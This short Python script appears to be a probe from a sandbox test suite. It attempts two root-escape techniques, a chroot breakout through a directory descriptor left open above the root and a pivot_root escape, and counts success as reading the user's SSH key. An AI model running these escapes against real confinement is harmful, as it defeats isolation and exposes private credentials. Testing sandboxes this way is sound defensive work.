"""Climbs out of its root: chroot with a directory left open above it, and pivot_root. Success: the user's SSH key is
printed."""

import os
import sys

from calls import MS_BIND, MS_REC, check, libc, mount, own_namespaces, show, text, trying

key = os.environ["T_KEY"]
trying(own_namespaces)
above = os.open("/", os.O_PATH)
os.makedirs(".wall/root/old", exist_ok=True)


def by_pivot():
    mount(".wall/root", ".wall/root", flags=MS_BIND | MS_REC)
    check(libc.syscall(155, text(".wall/root"), text(".wall/root/old")), "pivot_root")
    for up in "", "/..", "/../..", "/../../..":
        if trying(show, f"/old{up}{key}"):
            return True
    return None


def by_chroot():
    os.chroot(".wall/root")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return show(key)


child = os.fork()
if child == 0:
    os._exit(0 if trying(by_chroot) else 1)
chrooted = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
sys.exit(not (chrooted | bool(trying(by_pivot))))
